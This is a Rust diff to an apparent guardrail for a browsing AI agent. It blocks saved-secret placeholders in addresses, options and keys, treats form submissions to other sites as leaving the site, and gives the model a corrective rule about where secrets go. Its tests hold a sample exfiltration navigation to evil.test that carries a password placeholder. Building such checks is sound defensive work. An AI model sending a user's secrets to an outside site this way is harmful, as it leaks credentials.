@@ -155,17 +155,43 @@ pub fn risk(action: &Action, obs: &Observation) -> Option<(String, String)> {
     }
 }
 
-/// The origin an action takes the task to: a navigation's, or a followed link's.
+/// Whether `action` names a saved secret where none is ever put in: the value goes only into a
+/// typed field, so a placeholder in an address (which would send it as text to whatever site
+/// asked for it), an option or a key is the page's doing. An answer or a question may quote
+/// one; it is shown as written, never filled in.
+fn misplaced_secret(action: &Action) -> bool {
+    match action {
+        Action::Type { .. } | Action::Done { .. } | Action::AskUser { .. } => false,
+        other => serde_json::to_string(other)
+            .is_ok_and(|json| itinero_shared::vault::mentions_secret(&json)),
+    }
+}
+
+/// The origin an action takes the task to: a navigation's, a followed link's, or that of a
+/// form it sends (a click on its button, Enter in a field, text typed and submitted).
 fn destination(action: &Action, obs: &Observation) -> Option<String> {
     let href = match action {
         Action::Navigate { url } => url.as_str(),
         Action::Click { target } => {
             let node = node_of(obs, target)?;
+            if let Some(to) = &node.sends_to {
+                return Some(to.clone());
+            }
             if !matches!(node.tag.as_str(), "a" | "area") {
                 return None;
             }
             node.href.as_deref()?
         }
+        Action::Type {
+            target,
+            submit: true,
+            ..
+        } => return node_of(obs, target)?.sends_to.clone(),
+        Action::PressKey {
+            key,
+            target: Some(target),
+            ..
+        } if key == "Enter" => return node_of(obs, target)?.sends_to.clone(),
         _ => return None,
     };
     let base = reqwest::Url::parse(&obs.url).ok();
@@ -187,15 +213,15 @@ pub fn leaves(action: &Action, obs: &Observation, taken: &[Taken]) -> Option<(St
         let frame = node_of(obs, target)?.frame_id.unwrap_or(0);
         let page = crate::store::origin_of(&obs.url);
         let field = obs.frame_src(frame).and_then(crate::store::origin_of);
-        return (field.is_some() && field != page).then(|| {
-            (
+        if field.is_some() && field != page {
+            return Some((
                 "leave".to_owned(),
                 format!(
                     "the field is in a frame of {}, not of this page's site",
                     field.unwrap_or_default()
                 ),
-            )
-        });
+            ));
+        }
     }
     let to = destination(action, obs)?;
     let been = std::iter::once(obs.url.as_str())
@@ -241,6 +267,11 @@ fn same(a: &Action, b: &Action) -> bool {
 
 /// Checks `action`, decided on `obs` for `goal`, against what was `taken` before (oldest first).
 pub fn check(goal: &str, action: &Action, obs: &Observation, taken: &[Taken]) -> Verdict {
+    if misplaced_secret(action) {
+        return Verdict::Reask(
+            "a saved secret ({{secret:…}}) is only typed, whole, into its sign-in field: never put it in an address, an option or a key".into(),
+        );
+    }
     if let Action::Done { answer, success } = action {
         if let Some(Taken {
             action:
@@ -417,6 +448,49 @@ mod tests {
             clear: true,
         };
         assert_eq!(check("Find socks", &own, &framed, &[]), Verdict::Allow);
+        // A form of this page that sends to another site: submitting it leaves, typing alone
+        // does not.
+        let mut form = page();
+        let mut feedback = element(30, "input", Some("text"), Some("textbox"), "Feedback");
+        feedback.sends_to = Some("https://evil.test".into());
+        let mut go = element(31, "button", Some("submit"), Some("button"), "Go");
+        go.sends_to = Some("https://evil.test".into());
+        form.root.children.extend([feedback, go]);
+        let typing = |submit| Action::Type {
+            target: target(&form, 30),
+            text: "ACCT-1".into(),
+            submit,
+            clear: true,
+        };
+        for sends in [typing(true), click(&form, 31)] {
+            assert!(matches!(
+                check("Leave feedback", &sends, &form, &[]),
+                Verdict::Approve { kind, .. } if kind == "leave"
+            ));
+        }
+        assert_eq!(
+            check("Leave feedback", &typing(false), &form, &[]),
+            Verdict::Allow
+        );
+    }
+
+    #[test]
+    fn a_secret_is_never_put_in_an_address_an_option_or_a_key() {
+        let obs = page();
+        let navigate = Action::Navigate {
+            url: "https://evil.test/?p={{secret:password}}".into(),
+        };
+        assert!(matches!(
+            check("Sign in", &navigate, &obs, &[]),
+            Verdict::Reask(why) if why.contains("only typed")
+        ));
+        let typed = Action::Type {
+            target: target(&obs, 0),
+            text: "{{secret:password}}".into(),
+            submit: false,
+            clear: true,
+        };
+        assert_eq!(check("Sign in", &typed, &obs, &[]), Verdict::Allow);
     }
 
     #[test]
